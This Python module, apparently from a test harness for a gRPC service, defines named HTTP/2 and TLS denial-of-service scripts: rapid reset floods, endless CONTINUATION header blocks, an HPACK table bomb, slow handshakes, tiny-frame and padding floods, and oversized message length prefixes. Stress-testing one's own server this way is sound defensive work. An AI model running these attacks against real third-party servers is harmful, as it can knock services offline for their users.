"""What a hostile client does, by name: scripts for a line, and how many lines at a time.

A script is a generator over its line. It yields bytes to be sent, and numbers: seconds of silence. When it ends, the
connection stays, answering pings, until it is cut or the time is over.
"""

import itertools
import ssl
from collections.abc import Callable
from dataclasses import dataclass

from hostile import frames
from hostile.frames import CONTINUATION, END_HEADERS, END_STREAM, HEADERS

CALL = "/merels.v1.RulesService/ListRulesets"
SESSION = "/merels.v1.SessionService/Session"
MEGABYTE = 1 << 20
_PIECE = 1 << 16  # bytes that are made at a time


@dataclass(frozen=True)
class Attack:
    """`script`: see above. `lines`: connections at a time. `reads`, `raw`: see Line. `needs_tls`, `needs_token`: what
    the script cannot do without."""

    script: Callable
    lines: int = 1
    reads: bool = True
    raw: bool = False
    needs_tls: bool = False
    needs_token: bool = False
    comes_again: bool = True  # in a flood without end: once it has said all; else it stays
    endless: bool = False  # what is over comes back in any case
    says: str = ""


ATTACKS = {}


def attack(name, **options):
    """Notes a script under a name."""
    def note(script):
        ATTACKS[name] = Attack(script, says=" ".join((script.__doc__ or "").split()), **options)
        return script
    return note


def opening(line, *pairs):
    """The first bytes of a client."""
    return line.count(1, frames.PREFACE + frames.settings(*pairs))


def repeated(line, part, count):
    """The same frame again and again."""
    at_a_time = max(1, min(count, _PIECE // len(part)))
    piece = part * at_a_time
    for _ in range(count // at_a_time):
        yield line.count(at_a_time, piece)
    if count % at_a_time:
        yield line.count(count % at_a_time, part * (count % at_a_time))


def blocks(line, token="", path=CALL):
    """The header block of a call, in full, and as indices once the server has seen the first."""
    return frames.call_block(path, line.target.scheme, token, keep=True)


def streams(count=None, first=1):
    """Numbers of streams that a client opens."""
    return range(first, first + 2 * count, 2) if count else itertools.count(first, 2)


def in_pieces(line, parts, frames_a_part=1, at_a_time=2000):
    """Many small parts, a piece of them at a time."""
    parts = iter(parts)
    while some := list(itertools.islice(parts, at_a_time)):
        yield line.count(len(some) * frames_a_part, b"".join(some))


@attack("idle", comes_again=False, lines=450, raw=True)
def idle(line):
    """Connections that say nothing."""
    return iter(())


@attack("new-connections", endless=True, lines=50, raw=True)
def new_connections(line):
    """Connections that are made and closed at once, without end."""
    yield 0.0
    line.end()
    line.ending.how = "ended"


@attack("tls-handshakes", endless=True, lines=50, needs_tls=True)
def tls_handshakes(line):
    """TLS handshakes, each a signature of the server's, without end."""
    yield 0.0
    line.end()
    line.ending.how = "ended"


@attack("slow-tls", comes_again=False, lines=50, raw=True, needs_tls=True)
def slow_tls(line):
    """A TLS handshake of which a byte comes every tenth of a second."""
    out = ssl.MemoryBIO()
    half = line.target.tls.wrap_bio(ssl.MemoryBIO(), out)
    try:
        half.do_handshake()
    except ssl.SSLWantReadError:
        pass
    for byte in out.read():
        yield bytes([byte])
        yield 0.1


@attack("slow-preface", comes_again=False, lines=50)
def slow_preface(line):
    """The first words of HTTP/2, a byte every half second."""
    line.answers = False
    for byte in frames.PREFACE:
        yield bytes([byte])
        yield 0.5


@attack("pings-only", comes_again=False, lines=50)
def pings_only(line):
    """A connection that answers what it is asked and never opens a call."""
    yield opening(line)


@attack("bodiless", comes_again=False, lines=100)
def bodiless(line, calls=100):
    """Calls whose body never comes."""
    yield opening(line)
    first, again = blocks(line)
    yield from in_pieces(line, (frames.headers(stream, again if stream > 1 else first) for stream in streams(calls)))


@attack("bodiless-fat", comes_again=False, lines=100)
def bodiless_fat(line, calls=100):
    """The same, each with headers of seven thousand bytes in many small fields."""
    yield opening(line)
    fields = b"".join(frames.literal(f"x-{number}", "v") for number in range(180))
    first, again = blocks(line)
    yield from in_pieces(line, (frames.headers(stream, (again if stream > 1 else first) + fields)
                                for stream in streams(calls)), at_a_time=10)


def _resets():
    """HEADERS and RST_STREAM for the streams from 3 on, in pieces; made once for all lines of a scheme."""
    made = {}

    def pieces(again):
        kept = made.setdefault(again, [])
        for number in itertools.count():
            if number == len(kept):
                kept.append(b"".join(frames.headers(stream, again) + frames.reset(stream)
                                     for stream in range(3 + number * 4000, 3 + (number + 1) * 4000, 2)))
            yield kept[number]
    return pieces


_reset_pieces = _resets()


def rapid_reset_for(calls):
    """`rapid_reset` that ends after so many calls."""
    def script(line):
        yield opening(line)
        first, again = blocks(line)
        yield frames.headers(1, first) + frames.reset(1)
        for piece in itertools.islice(_reset_pieces(again), calls // 2000):
            yield line.count(4000, piece)
    return script


@attack("rapid-reset")
def rapid_reset(line):
    """Calls that are taken back at once, as fast as they go out."""
    yield from rapid_reset_for(150_000)(line)


@attack("rapid-reset-unread", reads=False)
def rapid_reset_unread(line):
    """The same of one who reads no answer."""
    yield from rapid_reset_for(150_000)(line)


def _unfinished_string(line, length):
    """A call whose last header's value is said to be so long; the start of it."""
    line.answers = False
    yield opening(line)
    block = frames.call_block(CALL, line.target.scheme)[0]
    start = block + b"\0" + frames.text("x-long") + frames.integer(length, 7)
    yield line.count(1, frames.headers(1, start, 0))


@attack("hpack-string")
def hpack_string(line, size=32 * MEGABYTE):
    """One value of 32 MB in a header block that does not end."""
    yield from _unfinished_string(line, 2 * size)
    part = frames.frame(CONTINUATION, 0, 1, b"v" * frames.MOST_PAYLOAD)
    yield from repeated(line, part, size // frames.MOST_PAYLOAD)


@attack("hpack-string-bytes")
def hpack_string_bytes(line, size=4 * MEGABYTE, more=65536):
    """The same with 4 MiB first, and then one byte a frame."""
    yield from _unfinished_string(line, 2 * size)
    yield from repeated(line, frames.frame(CONTINUATION, 0, 1, b"v" * frames.MOST_PAYLOAD),
                        size // frames.MOST_PAYLOAD)
    yield from repeated(line, frames.frame(CONTINUATION, 0, 1, b"v"), more)


@attack("small-headers")
def small_headers(line, size=96 * MEGABYTE):
    """Small headers without end in one block."""
    line.answers = False
    yield opening(line)
    yield line.count(1, frames.headers(1, frames.call_block(CALL, line.target.scheme)[0], 0))
    fields = frames.literal("a", "b") * (frames.MOST_PAYLOAD // 5)
    yield from repeated(line, frames.frame(CONTINUATION, 0, 1, fields), size // len(fields))


@attack("trailers-unfinished")
def trailers_unfinished(line, size=32 * MEGABYTE):
    """Small headers without end behind the body of a call."""
    line.answers = False
    yield opening(line)
    block = frames.call_block(CALL, line.target.scheme)[0]
    yield line.count(2, frames.headers(1, block) + frames.headers(1, frames.literal("a", "b"), END_STREAM))
    fields = frames.literal("a", "b") * (frames.MOST_PAYLOAD // 5)
    yield from repeated(line, frames.frame(CONTINUATION, 0, 1, fields), size // len(fields))


@attack("header-list")
def header_list(line, size=MEGABYTE, calls=32):
    """Calls with headers of a megabyte each."""
    line.answers = False
    yield opening(line)
    fields = frames.literal("x-long", "v" * 8000) * 2
    for stream in streams(calls):
        yield line.count(1, frames.headers(stream, frames.call_block(CALL, line.target.scheme)[0], 0))
        yield from repeated(line, frames.frame(CONTINUATION, 0, stream, fields), size // len(fields))
        yield line.count(1, frames.frame(CONTINUATION, END_HEADERS, stream))


@attack("header-bomb")
def header_bomb(line, calls=500):
    """A header of four kilobytes in the table, and calls that name it sixteen thousand times."""
    yield opening(line)
    first, again = blocks(line)
    bomb = frames.literal("x", "v" * 3700, keep=True)
    yield line.count(1, frames.headers(1, first + bomb))
    short = frames.call_block(CALL, line.target.scheme)[0]
    part = short + frames.indexed(62) * (frames.MOST_PAYLOAD - len(short))
    yield from in_pieces(line, (frames.headers(stream, part) for stream in streams(calls, 3)), at_a_time=4)


@attack("table-sizes")
def table_sizes(line, calls=20_000):
    """Header blocks that are nothing but changes of the table's size."""
    yield opening(line)
    block = frames.call_block(CALL, line.target.scheme)[0]
    part = (frames.integer(0, 5, 0x20) + frames.integer(4096, 5, 0x20)) * 200 + block
    yield from in_pieces(line, (frames.headers(stream, part) + frames.reset(stream) for stream in streams(calls)), 2, 50)


@attack("empty-continuations")
def empty_continuations(line, size=16 * MEGABYTE):
    """A header block of empty frames that does not end."""
    line.answers = False
    yield opening(line)
    yield line.count(1, frames.headers(1, frames.call_block(CALL, line.target.scheme)[0], 0))
    yield from repeated(line, frames.frame(CONTINUATION, 0, 1), size // frames.FRAME_HEADER)


@attack("one-byte-data")
def one_byte_data(line, size=65_000):
    """The body of one call, a byte a frame."""
    yield opening(line)
    yield line.count(1, frames.headers(1, frames.call_block(CALL, line.target.scheme)[0]))
    yield line.count(1, frames.frame(frames.DATA, 0, 1, frames.message(b"", 60_000)))
    yield from repeated(line, frames.frame(frames.DATA, 0, 1, b"\x0a"), size - 5)


@attack("one-byte-data-lines", comes_again=False, lines=50)
def one_byte_data_lines(line):
    """The same on many connections."""
    yield from one_byte_data(line)


@attack("empty-data")
def empty_data(line, size=16 * MEGABYTE):
    """Frames of DATA with nothing in them."""
    yield opening(line)
    yield line.count(1, frames.headers(1, frames.call_block(CALL, line.target.scheme)[0]))
    yield from repeated(line, frames.frame(frames.DATA, 0, 1), size // frames.FRAME_HEADER)


@attack("padded-data", lines=4)
def padded_data(line):
    """DATA that is padding alone, as far as the window goes."""
    yield opening(line)
    yield line.count(1, frames.headers(1, frames.call_block(CALL, line.target.scheme)[0]))
    part = frames.frame(frames.DATA, frames.PADDED, 1, b"\xff" + bytes(255))
    for _ in range(40_000):
        while line.window < 256:
            yield 0.01
        line.window -= 256
        yield line.count(1, part)


@attack("length-prefix", lines=10)
def length_prefix(line, calls=50):
    """Messages that say they are of four gigabytes, and never come."""
    yield opening(line)
    first, again = blocks(line)
    body = frames.message(b"\0" * 100, 0xffffffff)
    yield from in_pieces(line, (frames.headers(stream, again if stream > 1 else first)
                                + frames.frame(frames.DATA, 0, stream, body) for stream in streams(calls)), 2)


@attack("length-prefix-allowed", comes_again=False, lines=50)
def length_prefix_allowed(line, calls=100):
    """Messages that say they are as long as may be, come in part and stop."""
    yield opening(line)
    first, again = blocks(line)
    body = frames.message(b"\0" * 600, 65_536)
    yield from in_pieces(line, (frames.headers(stream, again if stream > 1 else first)
                                + frames.frame(frames.DATA, 0, stream, body) for stream in streams(calls)), 2)
